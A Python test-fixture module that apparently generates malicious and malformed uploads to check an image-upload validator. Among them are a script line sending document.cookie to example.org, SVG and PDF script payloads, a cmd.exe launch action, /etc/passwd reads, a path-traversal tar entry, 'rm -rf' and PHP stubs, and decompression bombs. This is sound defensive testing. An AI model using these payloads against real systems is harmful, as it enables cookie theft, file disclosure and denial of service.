"""What must be refused, (name, bytes); and what may be either refused or taken and cleaned, for it is a picture as well."""

import io
import random
import struct
import tarfile

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.records import uploads
from tests.records.uploads import CANARY, chunk, compressed, grainy, saved, zipped

SCRIPT = b"<script>fetch('//example.org/'+document.cookie)</script>"
# The harmless line that every scanner knows, in two halves, so that no scanner stumbles over this file.
SCANNERS_LINE = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<<%s>>>>endobj\ntrailer<</Root 1 0 R>>\n%%%%EOF"


def pages():
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{}>{}</svg>'
    inside = [("", SCRIPT.decode()), (' onload="alert(1)"', ""), ("", '<image xlink:href="file:///etc/passwd"/>')]
    inside += [
        ("", '<foreignObject><iframe src="javascript:1"/></foreignObject>'),
        ("", "<a xlink:href='javascript:1'/>"),
    ]
    for number, words in enumerate(inside):
        for ending in ("svg", "png", "jpg"):
            yield f"drawing {number}.{ending}", svg.format(*words).encode()
    lots = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 9}">' for n in range(1, 12))
    yield "entities.svg", f'<!DOCTYPE svg [<!ENTITY a0 "ha">{lots}]><svg>&a11;</svg>'.encode()
    yield "packed.svgz", uploads.gzip.compress(svg.format(*inside[0]).encode())
    for start in (b"", b"\xef\xbb\xbf", b"<!doctype html>", b"\n\n  ", b"<?xml version='1.0'?>", b"GIF89a/*", b"BM"):
        for ending in ("jpg", "jpeg", "png", "heic"):
            yield f"page {start[:4]!r}.{ending}", start + b"<html><body>" + SCRIPT + b"</body></html>"


def papers():
    for number, what in enumerate(
        [b"/S/JavaScript/JS(app.alert(1))", b"/S/Launch/F(cmd.exe)", b"/S/URI/URI(//example.org)"]
    ):
        yield f"paper {number}.pdf", PDF % what
        yield f"paper {number}.jpg", PDF % what
    yield "locked.pdf", PDF % b"/S/Named" + b"/Encrypt 2 0 R"
    yield "with a file.pdf", PDF % b"/S/GoToE" + b"/EmbeddedFiles"
    yield "many objects.pdf", b"%PDF-1.4\n" + b"".join(b"%d 0 obj<<>>endobj\n" % n for n in range(100_000))
    word = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}
    yield "letter.docx", zipped(word)
    yield "macros.docm", zipped({**word, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99})
    yield "macros.jpg", zipped({**word, "word/vbaProject.bin": b"Shell"})
    outside = '<Relationship Target="http://example.org/t.dotm" TargetMode="External"/>'
    yield "template.docx", zipped({**word, "word/_rels/settings.xml.rels": outside})
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000


def programs():
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("../../up"))
    starts = {
        "windows": b"MZ\x90\0",
        "linux": b"\x7fELF\x02\x01",
        "shell": b"#!/bin/sh\nrm -rf .\n",
        "php": b"<?php system(1);",
    }
    starts |= {
        "java": b"\xca\xfe\xba\xbe",
        "tar": tar.getvalue(),
        "scanner": SCANNERS_LINE,
        "film": b"\0\0\0\x18ftypmp42",
    }
    starts |= {
        "scanner packed": zipped({"e.com": SCANNERS_LINE}),
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run\n",
    }
    starts |= {
        "photoshop": b"8BPS\0\1",
        "sound": b"RIFF\0\0\0\0WAVEfmt ",
        "mail": b"From: a\r\n\r\n",
        "json": b'{"a": 1}',
    }
    for name, start in starts.items():
        for ending in ("jpg", "png"):
            yield f"{name}.{ending}", start + b"\0" * 600
    for kind in ("GIF", "BMP", "TIFF", "ICO", "TGA", "PPM", "JPEG2000", "PDF", "EPS", "AVIF", "PCX"):
        yield f"another kind {kind}.jpg", saved(grainy((64, 64)), kind)


def bombs(large):
    """Small files that would be large; those that take long to make only where they are asked for."""
    for side in (50_000, 65_000):
        for name, how in (("baseline", {}), ("progressive", {"progressive": True})):
            yield f"{name} {side}.jpg", uploads.with_other_size(saved(grainy((64, 64)), "JPEG", **how), side, side)
    for side in (50_000, 2**31 - 1):
        yield f"heic {side}.heic", uploads.large_heic(side, side)
    yield "webp.webp", uploads.large_webp()
    cards = ["SIMPLE  = T", "BITPIX  = 8", "NAXIS   = 2", "NAXIS1  = 50000", "NAXIS2  = 50000", "END"]
    yield "fits.jpg", "".join(card.ljust(80) for card in cards).encode().ljust(2880) + b"\0" * 5000
    yield "png 8000.png", uploads.large_png(8000, 8000)
    if not large:
        return
    yield "zip bomb.jpg", zipped({"a": b"\0" * 100_000_000})
    yield "gzip bomb.png", compressed(100_000_000)
    for side in (20_001, 50_000, 100_000):
        yield f"png {side}.png", uploads.large_png(side, side)
    yield "tiff.jpg", saved(Image.new("1", (40_000, 40_000)), "TIFF", compression="group4")
    yield "too many bytes.jpg", saved(grainy(), "JPEG") + b"\0" * (25 * 1024 * 1024)
    head = struct.pack(">IIBBBBB", 50_000, 50_000, 8, 6, 0, 0, 1)
    yield (
        "laced.png",
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", uploads.zlib.compress(b"\0" * 10**7)),
    )


def scraps():
    dice = random.Random("scraps")  # noqa: S311 - noise, not secrets
    yield from (("empty.jpg", b""), ("one.png", b"\0"), ("zeros.heic", b"\0" * 5000))
    for number in range(8):
        yield f"noise {number}.jpg", dice.randbytes(dice.randint(2, 9000))
        yield f"begins well {number}.jpg", b"\xff\xd8\xff\xe0" + dice.randbytes(3000)
        yield f"begins well {number}.png", b"\x89PNG\r\n\x1a\n" + dice.randbytes(3000)
        yield f"begins well {number}.webp", b"RIFF\x10\x20\0\0WEBPVP8 " + dice.randbytes(3000)
        yield f"begins well {number}.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + dice.randbytes(3000)
    whole = saved(grainy(), "JPEG")
    for name, start in {
        "pdf": PDF % b"",
        "html": b"<html>" + SCRIPT,
        "zip": zipped({"a": "b"}),
        "gif": b"GIF89a",
    }.items():
        yield f"{name} first, photograph behind.jpg", start + whole


def cut_off(step=1):
    """Whole photographs that end too early, at every kilobyte or every so many."""
    kinds = {"jpg": saved(grainy(), "JPEG", quality=90), "png": saved(grainy((240, 180)), "PNG")}
    kinds["progressive.jpg"] = saved(grainy(), "JPEG", quality=85, progressive=True)
    kinds["webp"] = saved(grainy(), "WEBP", quality=90)
    kinds["heic"] = uploads.small_heic()
    for ending, whole in kinds.items():
        for place in range(1024, len(whole) - 64, 1024 * step):
            yield f"cut at {place}.{ending}", whole[:place]


def bad(step=1, large=False):
    """All that must be refused; every kilobyte or every so many, and the large ones where they are asked for."""
    for kind in (pages, papers, programs, scraps):
        yield from kind()
    yield from bombs(large)
    yield from cut_off(step)


def either(count):
    """Pictures that are something else as well, and whole ones with a few bytes changed."""
    whole = {"jpg": saved(grainy(), "JPEG"), "png": saved(grainy((120, 90)), "PNG"), "webp": saved(grainy(), "WEBP")}
    whole["heic"] = uploads.small_heic()
    for name, behind in {
        "zip": zipped({"a": CANARY}),
        "pdf": PDF % b"",
        "page": SCRIPT,
        "php": b"<?php",
        "x": b"MZ",
    }.items():
        for ending, content in whole.items():
            yield f"{name} behind.{ending}", content + behind + CANARY.encode()
    yield "script inside.jpg", saved(grainy(), "JPEG", comment=SCRIPT + CANARY.encode())
    words = PngInfo()
    words.add_text("php", f"<?php {CANARY}")
    words.add_text("much", " " * 60_000_000, zip=True)
    yield "much text.png", saved(grainy((64, 64)), "PNG", pnginfo=words)
    dice = random.Random("mutants")  # noqa: S311 - noise, not secrets
    for number in range(count):
        ending, content = dice.choice(sorted(whole.items()))
        mutant = bytearray(content)
        for _change in range(dice.choice((1, 3, 12))):
            mutant[dice.randrange(min(len(mutant), dice.choice((64, 2000, 10**9))))] = dice.randrange(256)
        yield f"mutant {number}.{ending}", bytes(mutant)
